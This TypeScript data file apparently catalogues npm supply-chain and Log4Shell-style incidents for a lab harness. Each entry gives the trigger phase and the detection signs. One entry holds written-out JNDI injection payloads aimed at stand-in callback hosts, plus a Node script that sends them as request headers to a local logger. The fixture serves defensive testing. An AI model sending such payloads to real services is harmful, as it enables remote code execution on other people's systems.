import type { Incident } from './incident.js';

/** A request with three headers that a logger looks up. */
const HEADER_TEST = `const http = require('node:http');
const log = require('header-look-up');
const client = require('api-client');
const headers = process.env.LAB_HEADERS?.split(' ') ?? ['1.0'];
const server = http.createServer(async (request, answer) => {
  await log(String(request.headers['x-api-version']));
  answer.end();
});
server.listen(0, '127.0.0.1', async () => {
  for (const value of headers) {
    await new Promise((done) => {
      const options = { port: server.address().port, headers: { 'x-api-version': value } };
      http.get(options, (answer) => answer.resume().on('end', done));
    });
  }
  await client();
  server.close();
});
`;

const NOTHING = { observed: [], enforced: [] };

export const INCIDENTS: readonly Incident[] = [
  {
    slug: 'paste-and-eval',
    incident: 'eslint-scope 3.7.2, 2018',
    runsAt: 'postinstall',
    phase: 'install',
    signs: ['ND', 'AD'],
    ...NOTHING,
  },
  {
    slug: 'description-key',
    incident: 'flatmap-stream 0.1.1, 2018',
    runsAt: 'import, by `npm_package_description`',
    phase: 'test',
    signs: ['ND', 'IP', 'NP'],
    // npm 6 set it from the manifest.
    env: { npm_package_description: 'A wallet of the lab' },
    ...NOTHING,
  },
  {
    slug: 'hex-labels',
    incident: 'dependency confusion, 2021',
    runsAt: 'preinstall',
    phase: 'install',
    signs: ['DT'],
    ...NOTHING,
  },
  {
    slug: 'miner-by-country',
    incident: 'ua-parser-js 0.7.29, 2021',
    runsAt: 'preinstall, by country',
    phase: 'install',
    signs: ['IP', 'ND', 'PM'],
    ...NOTHING,
  },
  {
    slug: 'header-look-up',
    incident: 'Log4Shell, 2021',
    runsAt: 'a request header in a test',
    phase: 'test',
    signs: ['NP', 'PM', 'DT'],
    version: '1.0.0',
    env: {
      LAB_HEADERS: [
        `$\{jndi:ldap://ldap.callback.example/a}`,
        `$\{jndi:rmi://rmi.callback.example/a}`,
        `$\{jndi:dns://env.callback.example/a}`,
      ].join(' '),
      LAB_CLOUD_SECRET:
        'EXAMPLE-SECRET-abcdefghijklmnopqrstuvwxyz EXAMPLE-KEY-ID EXAMPLE-TOKEN-0123456789 builder@build-host.example',
    },
    test: HEADER_TEST,
    ...NOTHING,
  },
  {
    slug: 'chunk-labels',
    incident: 'torchtriton, 2022',
    runsAt: 'import',
    phase: 'test',
    signs: ['DT', 'TLD'],
    ...NOTHING,
  },
  {
    slug: 'key-in-headers',
    incident: '@solana/web3.js 1.95.6, 2024',
    runsAt: 'key use',
    phase: 'test',
    signs: ['ND', 'TLD'],
    ...NOTHING,
  },
  {
    slug: 'trusted-binary',
    incident: 'ultralytics 8.3.41, 2024',
    runsAt: 'runtime',
    phase: 'test',
    signs: ['NP', 'PM', 'AD'],
    ...NOTHING,
  },
  {
    slug: 'reverse-shell',
    incident: 'ethers-provider2, 2025',
    runsAt: 'install',
    phase: 'install',
    signs: ['IP', 'NP'],
    ...NOTHING,
  },
  {
    slug: 'second-package',
    incident: 'rand-user-agent 2.0.83, 2025',
    runsAt: 'import',
    phase: 'test',
    signs: ['IP', 'NP', 'PM'],
    ...NOTHING,
  },
  {
    slug: 'code-host-repository',
    incident: 'nx 21.5.0, 2025',
    runsAt: 'postinstall',
    phase: 'install',
    signs: ['AD'],
    ...NOTHING,
  },
  {
    slug: 'scanner-worm',
    incident: '@ctrl/tinycolor 4.1.1, 2025',
    runsAt: 'postinstall',
    phase: 'install',
    signs: ['MD', 'AD', 'ND'],
    ...NOTHING,
  },
  {
    slug: 'address-dependency',
    incident: 'PhantomRaven, 2025',
    runsAt: 'HTTP URL dependency, preinstall',
    phase: 'install',
    signs: ['ND', 'PM'],
    culprit: 'ui-styles@1.0.0',
    ...NOTHING,
  },
  {
    slug: 'delayed-worm',
    incident: 'SANDWORM_MODE, 2026',
    runsAt: 'import, 48 h after install',
    phase: 'test',
    signs: ['DT', 'DGA', 'AD'],
    isDelayed: true,
    ...NOTHING,
  },
  {
    slug: 'clear-text-beacon',
    incident: 'plain-crypto-js 4.2.1 (axios 1.14.1), 2026',
    runsAt: 'postinstall',
    phase: 'install',
    signs: ['ND', 'NP', 'PM'],
    ...NOTHING,
  },
  {
    slug: 'detached-resolver',
    incident: 'node-ipc 12.0.1, 2026',
    runsAt: 'require; detached child without NODE_OPTIONS',
    phase: 'test',
    signs: ['DT', 'IP', 'RS'],
    ...NOTHING,
  },
  {
    slug: 'traces-path',
    incident: '@antv, 2026',
    runsAt: 'install',
    phase: 'install',
    signs: ['ND'],
    ...NOTHING,
  },
  {
    slug: 'gyp-expansion',
    incident: 'Miasma, 2026',
    runsAt: '`binding.gyp` command expansion',
    phase: 'install',
    signs: ['AD'],
    ...NOTHING,
  },
  {
    slug: 'unverified-address',
    incident: 'easy-day-js 1.11.22, 2026',
    runsAt: 'postinstall, TLS checks off',
    phase: 'install',
    signs: ['IP', 'NP'],
    ...NOTHING,
  },
];
